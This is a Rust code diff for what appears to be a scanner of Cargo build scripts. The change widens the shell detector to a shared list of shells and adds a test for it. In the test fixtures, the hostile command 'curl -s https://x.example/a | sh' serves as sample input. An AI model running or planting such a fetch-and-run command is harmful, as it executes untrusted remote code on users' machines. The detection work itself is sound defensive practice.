@@ -58,10 +58,10 @@ pub fn runs_build(prog: &str, args: &[String]) -> bool {
     }
 }
 
-/// Shells a build script may start by name.
+/// Shells a build script may start by name or path: the shell walker's list,
+/// read on the base name.
 fn is_shell(program: &str) -> bool {
-    let base = program.rsplit('/').next().unwrap_or(program);
-    matches!(base, "sh" | "bash" | "dash" | "zsh" | "ksh" | "ash")
+    crate::shell::is_shell(program.rsplit('/').next().unwrap_or(program))
 }
 
 /// The lines a build script's text hands a shell: for each
@@ -145,6 +145,20 @@ mod tests {
         assert!(shell_lines("Command::new(\"sh\").arg(\"-c\").arg(\"unterminated").is_empty());
         assert!(is_build_script("build.rs") && is_build_script("crates/x/build.rs"));
         assert!(!is_build_script("src/rebuild.rs") && !is_build_script("build.rs.bak"));
+    }
+
+    /// SLO-11: a build script may start any shell the walker knows, by name
+    /// or by path (zsh, fish, csh and tcsh were missed by a shorter list).
+    #[test]
+    fn slo_11_build_scripts_starting_any_known_shell_are_read() {
+        for shell in ["zsh", "/usr/bin/fish", "csh", "/bin/tcsh", "ksh", "dash"] {
+            let t = format!("fn main() {{ Command::new(\"{shell}\").args([\"-c\", \"curl -s https://x.example/a | sh\"]).status().unwrap(); }}");
+            assert_eq!(shell_lines(&t), ["curl -s https://x.example/a | sh"], "{shell}");
+        }
+        for other in ["python3", "/usr/bin/git", "shellcheck", "bash-completion"] {
+            let t = format!("fn main() {{ Command::new(\"{other}\").args([\"-c\", \"x\"]).status().unwrap(); }}");
+            assert!(shell_lines(&t).is_empty(), "{other}");
+        }
     }
 
     #[test]
